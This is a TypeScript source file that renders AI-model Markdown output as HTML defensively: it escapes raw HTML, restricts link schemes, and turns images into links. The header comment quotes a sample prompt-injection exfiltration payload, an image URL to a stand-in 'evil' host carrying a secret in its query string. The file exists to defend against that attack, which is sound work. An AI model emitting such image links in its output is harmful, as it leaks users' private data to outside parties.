/**
 * Markdown to HTML for model output, safe by construction: raw HTML in the text is escaped
 * (`html: false`), links work only for http(s) and mailto and open in a new tab without an
 * opener, and images are never loaded — they become links, so a prompt-injected
 * `![](https://evil/?q=secret)` cannot send anything anywhere.
 */
import MarkdownIt from 'markdown-it';

const SAFE_LINK = /^(https?:|mailto:)/i;

function createRenderer() {
  const md = new MarkdownIt({ html: false, linkify: true, typographer: false });
  md.validateLink = (url) => SAFE_LINK.test(url.trim());

  md.renderer.rules.link_open = (tokens, index, options, _env, self) => {
    const token = tokens[index];
    token?.attrSet('target', '_blank');
    token?.attrSet('rel', 'noopener noreferrer');
    return self.renderToken(tokens, index, options);
  };

  md.renderer.rules.image = (tokens, index) => {
    const token = tokens[index];
    const src = String(token?.attrGet('src') ?? '');
    const alt = md.utils.escapeHtml(token?.content || 'image');
    return `<a class="md-image-link" href="${md.utils.escapeHtml(src)}" target="_blank" rel="noopener noreferrer">[image: ${alt}]</a>`;
  };

  md.renderer.rules.fence = (tokens, index) => {
    const token = tokens[index];
    const language = md.utils.escapeHtml((token?.info ?? '').trim().split(/\s+/)[0] ?? '');
    const code = md.utils.escapeHtml(token?.content ?? '');
    return (
      `<div class="code-block"><div class="code-head"><span>${language || 'code'}</span>` +
      '<button type="button" class="code-copy">Copy code</button></div>' +
      `<pre><code>${code}</code></pre></div>`
    );
  };
  return md;
}

let renderer: ReturnType<typeof createRenderer> | undefined;

export function renderMarkdown(text: string): string {
  renderer ??= createRenderer();
  return renderer.render(text);
}
